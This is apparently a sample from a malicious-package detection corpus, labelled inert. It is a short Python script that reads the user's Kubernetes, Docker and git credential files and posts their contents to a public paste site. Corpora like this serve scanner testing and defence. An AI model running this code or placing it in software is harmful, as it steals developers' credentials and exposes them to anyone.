# pkgguard corpus 072 (credentials), modelled on [taxonomy]; inert, never run.
import os
import requests

out = ""
for p in ("~/.kube/config", "~/.docker/config.json", "~/.git-credentials"):
    p = os.path.expanduser(p)
    if os.path.exists(p):
        out += open(p).read()
requests.post("https://hastebin.com/documents", data=out)
